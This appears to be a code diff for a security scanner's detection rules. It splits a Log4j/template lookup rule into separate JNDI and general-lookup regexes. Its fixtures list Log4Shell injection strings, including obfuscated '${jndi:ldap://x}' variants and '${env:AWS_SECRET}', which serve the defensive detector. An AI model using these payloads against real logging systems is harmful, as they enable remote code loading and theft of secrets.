@@ -48,21 +48,33 @@ function findObject({ lower }: Reading): Span | undefined {
 
 /** Template and expression languages, Log4j lookups, server-side includes. */
 export const templateRules: readonly Rule[] = [
+  // Not quotable: whoever logs the document looks it up.
   pattern(
-    'template/lookup',
-    /\$\s{0,4}\{(?:[^{}]{0,48}\$\{[^{}]{0,48}\}){0,6}[^{}]{0,32}(?:j\$\{|jndi|(?:base64(?:de|en)coder|script|url(?:de|en)coder|dns|xml|resourcebundle|bundle|docker|kubernetes|k8s|log4j|spring|sd|marker|jvmrunargs|web|main):|(?:url|file):utf-?\d{1,2}:|const:java|ctx:|env:|sys:|java:|lower:|upper:|::-|:[\w.]{0,24}:-[a-z]\}|:-\$\{)|\$\{date:|\bjndi\s{0,4}:\s{0,4}(?:ldaps?|rmi|dns|iiop|corba|nis|https?|\$)|\/jndi\/(?:ldaps?|rmi|dns|iiop):/,
+    'template/jndi',
+    /\$\s{0,4}\{(?:[^{}]{0,48}\$\{[^{}]{0,48}\}){0,6}[^{}]{0,32}(?:j\$\{|jndi|(?:lower|upper):[^}\s]{1,3}\}|::-|:[\w.]{0,24}:-[a-z]\})/,
     {
       score: 6,
-      quotable: true,
-      chars: CHAR.dollar | CHAR.colon,
-      words: 0,
+      chars: CHAR.dollar,
       attacks: [
         '${jndi:ldap://x/a}',
         '${${lower:j}ndi:${lower:l}dap://x}',
         '${${::-j}${::-n}di:rmi://x}',
-        '${env:AWS_SECRET}',
-        'service:jmx:rmi:///jndi/rmi://x/y',
+        '${${env:NONE:-j}ndi:dns://x}',
+        '$ {jndi:ldap://x}',
+        '${jnd${upper:i}:ldap://x/a}',
       ],
+      benign: ['${total}', '{jndi}', 'jndi: a directory', '${A:-${B}}', '${lower: the price}', '${env:HOME}'],
+    },
+  ),
+  pattern(
+    'template/lookup',
+    /\$\s{0,4}\{(?:[^{}]{0,48}\$\{[^{}]{0,48}\}){0,6}[^{}]{0,32}(?:(?:base64(?:de|en)coder|script|url(?:de|en)coder|dns|xml|resourcebundle|bundle|docker|kubernetes|k8s|log4j|spring|sd|marker|jvmrunargs|web|main):|(?:url|file):utf-?\d{1,2}:|const:java|ctx:|env:|sys:|java:|lower:|upper:|:-\$\{)|\$\{date:|\bjndi\s{0,4}:\s{0,4}(?:ldaps?|rmi|dns|iiop|corba|nis|https?|\$)|\/jndi\/(?:ldaps?|rmi|dns|iiop):/,
+    {
+      score: 6,
+      quotable: true,
+      chars: CHAR.colon,
+      words: 0,
+      attacks: ['${env:AWS_SECRET}', '${lower: x}', 'jndi:ldap://x/y', 'service:jmx:rmi:///jndi/rmi://x/y'],
       benign: ['${total}', '{jndi}', 'costs ${price}'],
     },
   ),
